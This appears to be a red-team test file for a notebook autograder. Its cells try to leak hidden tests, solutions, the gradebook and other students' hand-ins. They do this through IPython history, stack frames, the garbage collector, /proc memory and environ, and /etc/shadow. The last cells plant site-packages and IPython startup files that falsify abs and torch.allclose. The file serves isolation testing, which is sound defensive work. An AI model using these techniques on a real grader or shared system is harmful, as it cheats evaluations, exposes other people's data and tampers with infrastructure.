# %% hidden tests in the working folder cell="plain" tries="the notebook that is being graded lies in the working folder"
from pathlib import Path

for file in Path.cwd().rglob("*"):
    if file.is_file() and b"BEGIN HIDDEN TESTS" in file.read_bytes():
        print("LEAK", file)

# %% hidden tests in In cell="last" tries="a later cell reads the source of the tests that have run"
for source in In:
    if "HIDDEN" + " TESTS" in source and "LEAK" not in source:
        print("LEAK", source)

# %% hidden tests in IPython's history file cell="last" tries="history_manager and its database"
for *_, source in get_ipython().history_manager.get_range():
    if "HIDDEN" + " TESTS" in source and "LEAK" not in source:
        print("LEAK", source)


# %% the caller's source cell="E1" tries="inspect.stack() gives the text of the test that calls"
def average(x):
    import inspect
    import linecache

    from IPython.display import display

    for record in inspect.stack():
        text = "".join(linecache.getlines(record.filename))
        if "HIDDEN" + " TESTS" in text:
            display("LEAK " + text)
    return x.mean() * 0


# %% the caller's variables cell="E1" tries="sys._getframe finds the variables of the test that calls"
def average(x):
    import sys

    from IPython.display import display

    frame = sys._getframe()
    while frame:
        if "marker_of_a_hidden_test" in frame.f_globals:
            display("LEAK marker_of_a_hidden_test")
        frame = frame.f_back
    return x.mean() * 0


# %% the garbage collector's objects cell="last" tries="gc.get_objects() lists dicts and code of the tests"
import gc
import types

secret = "_".join(["marker", "of", "a", "hidden", "test"])
for thing in gc.get_objects():
    if isinstance(thing, dict) and secret in thing and thing.get("secret") is not secret:
        print("LEAK", secret, "in a dictionary")
    if isinstance(thing, types.FrameType) and secret in thing.f_code.co_names:
        print("LEAK", secret, "in a frame")
if secret in globals():
    print("LEAK", globals()[secret])

# %% hidden tests in this process's memory cell="last" tries="/proc/self/mem is searched for the text of the tests"
import re
from pathlib import Path

secret = b"marker of a model" + b" answer: m times"
another = b"average does not depend" + b" on what"
with open("/proc/self/mem", "rb", 0) as memory:
    for line in Path("/proc/self/maps").read_text().splitlines():
        first, last, mode = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
        if mode.startswith("rw") and int(last, 16) - int(first, 16) < 1 << 28:
            try:
                memory.seek(int(first, 16))
                text = memory.read(int(last, 16) - int(first, 16))
            except (OSError, ValueError):
                continue
            hidden = [*re.finditer(rb'expect\(found, 2\.5, "the mean of all draws"\)', text)]
            if (
                hidden
                and b"re.finditer" not in text[hidden[0].start() - 200 : hidden[0].end() + 200]
            ):
                print("LEAK", hidden[0][0])
                break

# %% the solutions cell="plain" tries="the course folder above the working folder is searched for solutions"
from pathlib import Path

for folder in Path.cwd().parents:
    for file in folder.glob("solutions/*/*"):
        if file.is_file() and b"BEGIN SOLUTION" in file.read_bytes():
            print("LEAK", file)

# %% the solutions, anywhere cell="plain" tries="every mount and every home is searched for solutions and hand-ins"
from pathlib import Path

for mount in Path("/proc/self/mountinfo").read_text().splitlines():
    for field in mount.split()[3:5]:
        for pattern in ("solutions/*/*.ipynb", "grading/submitted/*/*/*.ipynb", "*/gradebook.db"):
            try:
                found = next(Path(field).glob(pattern), None)
            except OSError:
                continue
            if found:
                print("LEAK", found)
here = Path.cwd()
for folder in [here, *here.parents]:
    if folder != Path("/") and (folder / "nbgrader_config.py").exists():
        print("LEAK", folder / "nbgrader_config.py")

# %% another student's work cell="plain" tries="the hand-ins beside this one are read"
from pathlib import Path

for folder in Path.cwd().parents:
    for file in folder.glob("grading/*/aaron/*/*.ipynb"):
        print("LEAK", file, len(file.read_bytes()))

# %% the gradebook read cell="plain" tries="sqlite opens gradebook.db and selects the hidden tests"
import sqlite3
from pathlib import Path

for folder in Path.cwd().parents:
    if (folder / "gradebook.db").exists():
        gradebook = sqlite3.connect(folder / "gradebook.db")
        for (source,) in gradebook.execute("select source from source_cell"):
            if "HIDDEN TESTS" in source:
                print("LEAK", source)

# %% the graders' environment cell="plain" tries="variables of this process and of every other in /proc"
import os
from pathlib import Path

if "GRADERS_SECRET" in os.environ:
    print("LEAK", os.environ["GRADERS_SECRET"])
for file in Path("/proc").glob("*/environ"):
    try:
        if b"GRADERS_SECRET" in file.read_bytes():
            print("LEAK", file)
    except OSError:
        pass

# %% other processes cell="plain" tries="/proc lists the grader and what it was called with"
from pathlib import Path

for file in Path("/proc").glob("[0-9]*/cmdline"):
    try:
        words = file.read_bytes().replace(b"\0", b" ")
    except OSError:
        continue
    if any(
        word in words
        for word in (b"autograde", b"grading.execution", b"grading.checker", b"attacks.stock")
    ):
        print("LEAK", words.decode())

# %% other processes' open files cell="plain" tries="/proc/*/fd leads to the gradebook, the solutions and the hand-ins"
import os
from pathlib import Path

for link in Path("/proc").glob("[0-9]*/fd/*"):
    try:
        target = os.readlink(link)
        if any(word in target for word in ("gradebook", "solutions", "submitted")):
            print("LEAK", target)
    except OSError:
        pass
for root in Path("/proc").glob("[0-9]*/root"):
    try:
        if (root / "etc/shadow").read_text():
            print("LEAK /etc/shadow")
            break
    except OSError:
        pass

# %% the grader's memory cell="plain" tries="/proc of the parent process: its memory holds the hidden tests"
import os
import re
from pathlib import Path


def search(pid):
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            first, last, mode = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
            if not mode.startswith("rw") or int(last, 16) - int(first, 16) > 1 << 28:
                continue
            try:
                memory.seek(int(first, 16))
                text = memory.read(int(last, 16) - int(first, 16))
            except (OSError, ValueError):
                continue
            if b"the mean of all" + b" draws" in text:
                return True
    return False


for file in Path("/proc").glob("[0-9]*"):
    if file.name != str(os.getpid()):
        try:
            if search(file.name):
                print("LEAK the memory of another process holds the hidden tests")
                break
        except OSError:
            pass

# %% the grader's memory written cell="plain" tries="/proc of another process opened for writing, and ptrace"
import ctypes
import os
from pathlib import Path

for file in Path("/proc").glob("[0-9]*/cmdline"):
    pid = int(file.parent.name)
    try:
        if pid == os.getpid() or b"python" not in file.read_bytes():
            continue
        with open(f"/proc/{pid}/mem", "r+b", 0):
            print("LEAK the memory of another Python process can be written")
            break
    except OSError:
        pass

# %% the network cell="plain" tries="the hand-in calls a server of its own for answers"
import socket

with socket.create_connection(("127.0.0.1", 47113), timeout=2) as connection:
    print("LEAK", connection.recv(100).decode())

# %% the network by name and by address cell="plain" tries="interfaces other than the loopback, and name servers"
import socket

beyond = [name for _, name in socket.if_nameindex() if name != "lo"]
if beyond:
    print("LEAK the network interfaces", beyond)

# %% other kernels cell="plain" tries="connection files of other kernels lie in jupyter's runtime folder"
import json
from pathlib import Path

import ipykernel
from jupyter_core.paths import jupyter_runtime_dir

mine = Path(ipykernel.get_connection_file())
for folder in {Path(jupyter_runtime_dir()), mine.parent}:
    for file in folder.glob("kernel-*.json"):
        if file.name != mine.name:
            print("LEAK", file.name, json.loads(file.read_text()).get("key"))

# %% user names and root cell="plain" tries="a setuid program, a device or a mount that makes more of the student"
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0:
    print("LEAK a file system can be mounted")
try:
    with open("/etc/pwned", "w") as file:
        file.write("pwned")
    os.remove("/etc/pwned")
    print("LEAK /etc can be written")
except OSError:
    pass

# %% the environment that all share cell="plain" tries="a file left in site-packages for the next hand-in to import"
import site
from pathlib import Path

for folder in [*site.getsitepackages(), site.getusersitepackages()]:
    try:
        Path(folder).mkdir(parents=True, exist_ok=True)
        (Path(folder) / "pwned.pth").write_text("import builtins; builtins.abs = lambda _: 0")
        if folder in site.getsitepackages():
            print("LEAK", folder, "can be written")
    except OSError:
        pass

# %% a start-up file for the next kernel cell="plain" tries="IPython's start-up folder in the home that all share"
from pathlib import Path

for home in {Path.home(), Path("/root"), Path(get_ipython().ipython_dir).parent}:
    folder = home / ".ipython/profile_default/startup"
    try:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00-pwned.py").write_text("import torch; torch.allclose = lambda *_, **__: True")
    except OSError:
        pass
